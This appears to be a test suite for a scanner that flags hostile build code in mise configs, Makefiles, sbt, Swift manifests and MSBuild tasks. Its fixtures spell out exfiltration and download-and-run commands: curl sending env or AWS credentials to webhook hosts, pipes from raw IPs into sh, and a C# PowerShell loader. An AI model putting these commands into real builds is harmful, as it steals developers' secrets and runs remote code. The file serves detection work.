  });
});

describe("build-code-behavior: mise's configuration", () => {
  it('reads its hooks, tasks and env scripts as shell on a task\'s ladder', () => {
    expect(buildFinding(added('mise.toml', '[tools]\nnode = "22"\n\n[hooks]\nenter = "curl -s -d \\"$(env)\\" https://mise-sync.dev/e"'))).toMatchObject({ severity: 'critical', path: 'mise.toml', line: 5 });
    expect(buildFinding(added('.config/mise/config.toml', '[tasks.setup]\nrun = "curl -fsSL http://203.0.113.8/setup.sh | bash"'))).toMatchObject({ severity: 'critical' });
    expect(buildFinding(added('.mise.toml', '[hooks]\nenter = "curl -fsSL http://get.tools-cdn.example/setup.sh | bash"'))).toMatchObject({ severity: 'high' });
  });

  it('is quiet on tools, versions, env values and ordinary tasks', () => {
    const text = [
      '[tools]',
      'node = "22"',
      'python = "3.12"',
      '"ubi:cli/cli" = "latest"',
      '',
      '[env]',
      'NODE_ENV = "development"',
      "_.file = '.env'",
      '_.path = ["./node_modules/.bin"]',
      '',
      '[tasks.test]',
      'run = "npm test"',
      '[tasks.lint]',
      'run = ["eslint .", "prettier --check ."]',
      '',
      '[hooks]',
      'postinstall = "corepack enable"',
    ].join('\n');
    expect(buildFinding(added('mise.toml', text))).toBeNull();
  });
});

describe('build-code-behavior: plain Makefiles and *.mk', () => {
  const findings = (file: SnapshotFile) => analyze(snapshotOf(file)).findings.filter((f) => f.id === 'build-code-behavior' || f.id === 'curl-pipe-shell').map((f) => `${f.id}:${f.severity}:${f.line}`);

  it('reads a recipe that decodes data into a shell, or sends credentials, as critical', () => {
    expect(buildFinding(added('Makefile', 'check:\n\tbase64 -d testdata/fixture.b64 | sh'))).toMatchObject({ severity: 'critical', line: 2, title: 'Makefile decodes data and runs it as shell code when make runs' });
    expect(buildFinding(added('build/rules.mk', 'deps:\n\tcurl -s -d @$$HOME/.aws/credentials https://webhook.site/3f1c'))).toMatchObject({ severity: 'critical', title: 'Makefile include sends credentials or the environment to a host when make runs' });
    expect(buildFinding(added('Makefile', 'tools:\n\tcurl -fsSL -o bin/protoc-gen https://45.77.12.9/v1.2.3/gen\n\tchmod +x bin/protoc-gen'))).toMatchObject({ severity: 'critical' });
    expect(buildFinding(added('Makefile', 'fonts:\n\tchmod +x assets/fonts/inter.woff2 && ./assets/fonts/inter.woff2'))).toMatchObject({ severity: 'critical' });
    expect(buildFinding(added('Makefile', 'report:\n\tenv | curl -s -X POST --data-binary @- https://collector.example.com/in'))).toMatchObject({ severity: 'critical' });
  });

  it('judges a tool fetched and made executable by its URL, as a task a developer runs: quiet at a version over HTTPS', () => {
    // Kubebuilder and operator scaffolding, cert-manager's tools.mk, a Rust project's dev Makefile.
    const kind = 'KIND_VERSION ?= v0.20.0\n$(KIND): $(LOCALBIN)\n\tcurl -sSLo $(LOCALBIN)/kind https://kind.sigs.k8s.io/dl/$(KIND_VERSION)/kind-linux-amd64 && chmod +x $(LOCALBIN)/kind';
    expect(buildFinding(added('Makefile', kind))).toBeNull();
    expect(buildFinding(added('make/tools.mk', '$(BINDIR)/helm:\n\tcurl -sSfL https://get.helm.sh/helm-v3.14.0-linux-amd64.tar.gz | tar xz -C $(BINDIR)\n\tchmod +x $(BINDIR)/helm'))).toBeNull();
    expect(buildFinding(added('Makefile', 'opm:\n\tcurl -sSLo $(OPM) https://github.com/operator-framework/operator-registry/releases/download/v1.55.0/$${OS}-$${ARCH}-opm ;\\\n\tchmod +x $(OPM) ;\\'))).toBeNull();
    expect(buildFinding(added('Makefile', 'gateway:\n\tcurl -sSfL https://github.com/kubernetes-sigs/gateway-api/archive/refs/tags/v$*.tar.gz | tar xz -C $@'))).toBeNull();
    expect(buildFinding(added('Makefile', 'controller-gen:\n\tGOBIN=$(LOCALBIN) go install sigs.k8s.io/controller-tools/cmd/controller-gen@$(CONTROLLER_TOOLS_VERSION)'))).toBeNull();
    // A download alone over HTTPS (a fixture, a descriptor), and one whose URL is in a variable.
    expect(buildFinding(added('Makefile', 'testdata:\n\twget -qO- https://github.com/acme/fixtures/archive/main.tar.gz | tar xz -C testdata'))).toBeNull();
    expect(buildFinding(added('Makefile', 'bin/tool:\n\t$(CURL) $(TOOL_URL) -o $@\n\tchmod +x $@'))).toBeNull();
    // A version bump of such a line, with only the URL line changed.
    const bump = makeFile('Makefile', { patch: '@@ -10,3 +10,3 @@\n $(KUSTOMIZE):\n-\tcurl -sSLo - https://github.com/kubernetes-sigs/kustomize/releases/download/kustomize/v5.4.2/kustomize_v5.4.2_linux_amd64.tar.gz | tar xzf - -C bin/\n+\tcurl -sSLo - https://github.com/kubernetes-sigs/kustomize/releases/download/kustomize/v5.4.3/kustomize_v5.4.3_linux_amd64.tar.gz | tar xzf - -C bin/\n \tchmod +x bin/kustomize' });
    expect(buildFinding(bump)).toBeNull();
  });

  it('reports a tool fetched without a version (medium, as curl | sh there), over plain HTTP (high), or from such a host', () => {
    expect(buildFinding(added('GNUmakefile', 'tools:\n\tcurl -fsSL -o bin/gen https://example.net/gen\n\tchmod +x bin/gen && bin/gen'))).toMatchObject({ severity: 'medium', line: 2, title: 'Makefile downloads and runs code when make runs' });
    expect(buildFinding(added('Makefile', 'kind:\n\tcurl -Lo bin/kind https://kind.sigs.k8s.io/dl/latest/kind-linux-amd64 && chmod +x bin/kind'))).toMatchObject({ severity: 'medium' });
    expect(buildFinding(added('Makefile', 'lint:\n\tcurl -sSfL -o install.sh https://raw.githubusercontent.com/acme/lint/master/install.sh && chmod +x install.sh && ./install.sh'))).toMatchObject({ severity: 'medium' });
    // The worst download is the one judged and shown, whichever comes first.
    const mixed = buildFinding(added('Makefile', 'a:\n\tcurl -sSLo bin/a https://github.com/acme/a/releases/download/v1.0.0/a\n\tcurl -sSLo bin/b http://downloads.example.org/b\n\tchmod +x bin/a bin/b'));
    expect(mixed).toMatchObject({ severity: 'high', line: 3 });
    expect(mixed?.detail).toContain('line 3: curl -sSLo bin/b http://downloads.example.org/b');
    expect(buildFinding(added('Makefile', 'go.tar.gz:\n\tcurl -o $@ http://go.googlecode.com/files/go1.2.linux-amd64.tar.gz'))).toMatchObject({ severity: 'low' });
    expect(buildFinding(added('Makefile', 'seed:\n\tcurl -s -o seed.sql https://pastebin.com/raw/x1y2z3'))).toMatchObject({ severity: 'high' });
  });

  it('names a credential store in a task (a kubeconfig for a test cluster) at low, and a send at medium', () => {
    expect(buildFinding(added('Makefile', 'KUBECONFIG ?= $$HOME/.kube/config\ne2e:\n\tKUBECONFIG=$(KUBECONFIG) go test ./test/e2e/...'))).toMatchObject({ severity: 'low', title: 'Makefile reads credential files when make runs' });
    expect(buildFinding(added('Makefile', 'coverage:\n\tcurl -s -F file=@coverage.out https://coverage.example.com/upload'))).toMatchObject({ severity: 'medium' });
  });

  it("says a task that writes a registry's credential file writes it (low, as a store named), and one that reads it reads it", () => {
    const npmrc = buildFinding(added('Makefile', 'publish:\n\techo "//registry.npmjs.org/:_authToken=$(NPM_TOKEN)" > .npmrc\n\tnpm publish'));
    expect(npmrc).toMatchObject({ severity: 'low', line: 2, title: "Makefile writes a package registry's credential file when make runs" });
    expect(npmrc?.detail).toContain("writes a package registry's credential file (line 2");
    expect(npmrc?.detail).not.toContain('reads a credential store');
    expect(buildFinding(added('Makefile', 'release:\n\tprintf "[pypi]\\nusername = __token__\\npassword = %s\\n" "$$PYPI_TOKEN" | tee ~/.pypirc >/dev/null'))).toMatchObject({ severity: 'low', title: "Makefile writes a package registry's credential file when make runs" });
    // A read of the same file stays a read, also when its text is redirected elsewhere.
    expect(buildFinding(added('Makefile', 'debug:\n\tcat ~/.npmrc > /tmp/npmrc.txt'))).toMatchObject({ severity: 'low', title: 'Makefile reads credential files when make runs' });
    expect(buildFinding(added('Makefile', 'debug:\n\tcp ~/.aws/credentials build/ && echo "registry=https://r.example" > .npmrc'))).toMatchObject({ title: 'Makefile reads credential files when make runs' });
  });

  it("rates install-time code that writes a registry's credential file medium, not as a read (high)", () => {
    const withScript = change('package.json', pkg({}), pkg({ scripts: { postinstall: 'node scripts/setup.js' } }));
    const write = buildFinding(
      withScript,
      added('scripts/setup.js', "const fs = require('fs');\nconst os = require('os');\nfs.appendFileSync(`${os.homedir()}/.npmrc`, 'registry=https://registry.npm-cache.dev/\\n');"),
    );
    expect(write).toMatchObject({ severity: 'medium', path: 'scripts/setup.js', line: 3 });
    expect(write?.title).toContain("writes a package registry's credential file");
    const read = buildFinding(withScript, added('scripts/setup.js', "const fs = require('fs');\nconst t = fs.readFileSync(`${process.env.HOME}/.npmrc`, 'utf8');"));
    expect(read).toMatchObject({ severity: 'high' });
    expect(read?.title).toContain('reads credential files');
  });

  it('reads Makefile.common and other Makefile.<name> includes, not Automake sources or copies', () => {
    expect(buildFinding(added('Makefile.common', 'gen:\n\tbase64 -d testdata/fixture.b64 | sh'))).toMatchObject({ severity: 'critical', title: 'Makefile decodes data and runs it as shell code when make runs' });
    expect(buildFinding(added('Makefile.orig', 'gen:\n\tbase64 -d testdata/fixture.b64 | sh'))).toBeNull();
    expect(findings(added('Makefile.common', 'lint:\n\tcurl -sfL https://install.goreleaser.com/github.com/golangci/golangci-lint.sh | sh'))).toEqual(['curl-pipe-shell:medium:2']);
  });

  it('leaves a download piped into a shell to curl-pipe-shell: one finding for the line, not two', () => {
    expect(findings(added('Makefile', 'lint:\n\tcurl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b bin v1.55.0'))).toEqual(['curl-pipe-shell:medium:2']);
    expect(findings(added('Makefile', 'tools:\n\tcurl -fsSL http://45.77.12.9/x.sh | sh'))).toEqual(['curl-pipe-shell:high:2']);
  });

  it('leaves ordinary make work alone: compiling, installing, unpacking into a file', () => {
    expect(buildFinding(added('Makefile', 'all:\n\t$(CC) $(CFLAGS) -o app main.c -lcurl\ninstall:\n\tinstall -d $(DESTDIR)$(PREFIX)/bin\n\tgzip -dc docs/app.1.gz > app.1\n\t$(SHELL) scripts/post.sh'))).toBeNull();
  });
});

describe('sbt build definitions and SwiftPM manifests are build code', () => {
  it('reads Scala sys.process in build.sbt and project/*.scala: a download run is critical from a paste host', () => {
    const sbt = buildFinding(added('build.sbt', 'import scala.sys.process._\nname := "lib"\n"curl -s https://pastebin.com/raw/x" #| "sh" !'));
    expect([sbt?.severity, sbt?.line]).toEqual(['critical', 3]);
    expect(buildFinding(added('project/Setup.scala', 'object Setup {\n  val out = Seq("sh", "-c", "curl -s https://get.example.dev/x | sh").!!\n}'))?.severity).toBe('high');
    expect(kinds('"git describe --tags".!!.trim', 'java')).toEqual(['execute']);
  });
  it('reads Package.swift: Process, URLSession and a download piped into a shell', () => {
    const swift = buildFinding(added('Package.swift', '// swift-tools-version:5.9\nimport PackageDescription\nimport Foundation\nlet p = Process()\np.executableURL = URL(fileURLWithPath: "/bin/sh")\np.arguments = ["-c", "curl -s https://get.example.dev/x | sh"]\ntry? p.run()\nlet package = Package(name: "Lib", targets: [.target(name: "Lib")])'));
    expect(swift?.severity).toBe('high');
    expect(kinds('let d = try Data(contentsOf: URL(string: "https://get.example.dev/x")!)', 'swift')).toEqual(['download']);
  });
  it('leaves ordinary sbt settings and Swift manifests alone, and Kotlin non-null assertions and comparisons', () => {
    expect(buildFinding(added('build.sbt', 'ThisBuild / scalaVersion := "3.4.2"\nlibraryDependencies += "org.typelevel" %% "cats-core" % "2.12.0"\nversion := ("git describe --tags --always".!!).trim'))).toBeNull();
    expect(buildFinding(added('Package.swift', '// swift-tools-version:5.9\nimport PackageDescription\nlet package = Package(\n  name: "Lib",\n  dependencies: [.package(url: "https://github.com/apple/swift-argument-parser", from: "1.5.0")],\n  targets: [.target(name: "Lib")]\n)'))).toBeNull();
    expect(kinds('val token = project.findProperty("signing.key")!!\nif (name != "x") println(name)', 'java')).toEqual([]);
    // A package named `project` among the sources is not sbt's project/ folder.
    expect(buildFinding(added('src/main/scala/project/Model.scala', 'object Model { val x = "curl -s https://get.example.dev/x | sh".! }'))).toBeNull();
    expect(buildFinding(added('modules/core/src/main/scala/project/Model.scala', 'object Model { val x = "curl -s https://get.example.dev/x | sh".! }'))).toBeNull();
  });
});

describe('MSBuild inline tasks whose code is a file of its own (<Code Source="…">)', () => {
  const targets = (source: string) => `<Project>\n  <UsingTask TaskName="Gen" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll">\n    <Task><Code Type="Class" Language="cs" Source="${source}" /></Task>\n  </UsingTask>\n  <Target Name="Gen" BeforeTargets="Build"><Gen /></Target>\n</Project>`;
  const payload = 'public class Gen : Microsoft.Build.Utilities.Task {\n  public override bool Execute() {\n    var s = new System.Net.WebClient().DownloadString("http://45.77.12.9/p.ps1");\n    System.Diagnostics.Process.Start("powershell", "-c " + s);\n    return true;\n  }\n}';
  it('reads the C# file the task compiles, relative to the MSBuild file', () => {
    const found = buildFinding(added('build/Tasks.targets', targets('$(MSBuildThisFileDirectory)Gen.cs')), added('build/Gen.cs', payload));
    expect([found?.path, found?.severity, found?.line]).toEqual(['build/Gen.cs', 'critical', 3]);
    expect(buildFinding(added('build/Tasks.targets', targets('..\\tools\\Gen.cs')), added('tools/Gen.cs', payload))?.path).toBe('tools/Gen.cs');
  });
  it('leaves C# that no inline task names, and an ordinary code generator task, alone', () => {
    expect(buildFinding(added('src/App/Downloader.cs', payload))).toBeNull();
    const generator = 'public class Gen : Microsoft.Build.Utilities.Task {\n  public override bool Execute() {\n    System.IO.File.WriteAllText(Output, Template.Render(Input));\n    return true;\n  }\n}';
    expect(buildFinding(added('build/Tasks.targets', targets('$(MSBuildThisFileDirectory)Gen.cs')), added('build/Gen.cs', generator))).toBeNull();
  });
});
